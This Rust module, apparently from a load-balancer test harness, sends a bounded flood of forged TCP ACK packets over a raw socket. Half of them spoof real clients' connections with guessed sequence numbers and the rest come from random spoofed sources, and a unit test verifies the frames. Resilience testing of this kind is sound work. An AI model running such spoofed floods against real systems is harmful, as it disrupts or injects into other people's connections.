//! A flood of forged acknowledgements, bounded in number and in time.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    time::{Duration, Instant},
};

use anyhow::Result;
use etherparse::PacketBuilder;
use lb_common::hash::mix;

use super::{
    flood::{BATCH, FloodReport, IP, TCP, frame_of, mend, send_batch},
    frame::RawSocket,
    layout::INTERFACE,
};

/// 14 of Ethernet, 20 of IPv4, 20 of TCP.
const LENGTH: usize = 54;

/// What to send: every other one in the name of a victim's connection, the rest from strangers (100.127.0.0/16), all with
/// numbers that are guessed.
#[derive(Clone, Debug)]
pub struct ForgedAcks {
    /// Address and port of clients that have a connection.
    pub victims: Vec<SocketAddrV4>,
    /// Where to.
    pub to: SocketAddrV4,
    /// It ends after so many frames,
    pub frames: u64,
    /// or after this time, whichever comes first.
    pub longest: Duration,
}

/// Sends them from `eth0` of the calling thread's namespace.
pub(super) fn send(forged: &ForgedAcks, from: [u8; 6], to: [u8; 6]) -> Result<FloodReport> {
    let socket = RawSocket::open(INTERFACE)?;
    socket.bypass_queueing()?;
    let mut frames = vec![template(forged, from, to)?; BATCH];
    let start = Instant::now();
    let mut sent = 0;
    while sent < forged.frames && start.elapsed() < forged.longest {
        let batch = usize::try_from(forged.frames - sent).unwrap_or(BATCH).min(BATCH);
        for (number, frame) in (sent..).zip(&mut frames[..batch]) {
            vary(frame, forged, number);
        }
        sent += send_batch(&socket, &mut frames[..batch])?;
    }
    Ok(FloodReport { frames: sent, elapsed: start.elapsed() })
}

fn template(forged: &ForgedAcks, from: [u8; 6], to: [u8; 6]) -> Result<[u8; LENGTH]> {
    let builder = PacketBuilder::ethernet2(from, to)
        .ipv4([0; 4], forged.to.ip().octets(), 64)
        .tcp(1, forged.to.port(), 0, 64_240)
        .ack(0);
    frame_of(builder, &[])
}

fn vary(frame: &mut [u8; LENGTH], forged: &ForgedAcks, number: u64) {
    let guess = mix(number);
    let [a, b, c, d, ..] = guess.to_be_bytes();
    let victim = match number % 2 {
        0 => usize::try_from(number / 2).ok().and_then(|nth| forged.victims.get(nth % forged.victims.len())),
        _ => None,
    };
    let stranger = SocketAddrV4::new(Ipv4Addr::new(100, 127, a, b), u16::from_be_bytes([c | 4, d]));
    let source = victim.copied().unwrap_or(stranger);
    frame[IP + 12..IP + 16].copy_from_slice(&source.ip().octets());
    frame[TCP..TCP + 2].copy_from_slice(&source.port().to_be_bytes());
    // Sequence number and acknowledgement.
    frame[TCP + 4..TCP + 12].copy_from_slice(&mix(guess).to_be_bytes());
    mend(frame);
}

#[cfg(test)]
mod tests {
    use etherparse::{NetSlice, SlicedPacket, TransportSlice};

    use super::*;

    #[test]
    fn every_other_ack_is_a_victims_and_all_have_right_checksums() {
        let victims = vec!["10.85.0.1:40000".parse().unwrap(), "10.85.0.2:40001".parse().unwrap()];
        let to = "192.168.85.150:443".parse().unwrap();
        let forged = ForgedAcks { victims, to, frames: 0, longest: Duration::ZERO };
        let mut frame = template(&forged, [2; 6], [4; 6]).unwrap();
        for number in 0..1000 {
            vary(&mut frame, &forged, number);
            let packet = SlicedPacket::from_ethernet(&frame).unwrap();
            let Some(NetSlice::Ipv4(ip)) = packet.net else { panic!("not IPv4") };
            let Some(TransportSlice::Tcp(tcp)) = packet.transport else { panic!("not TCP") };
            let header = ip.header().to_header();
            assert_eq!(header.header_checksum, header.calc_header_checksum());
            assert_eq!(tcp.checksum(), tcp.calc_checksum_ipv4(header.source, header.destination).unwrap());
            assert!(tcp.ack() && !tcp.syn());
            let source = SocketAddrV4::new(header.source.into(), tcp.source_port());
            assert_eq!(forged.victims.contains(&source), number % 2 == 0);
        }
    }
}
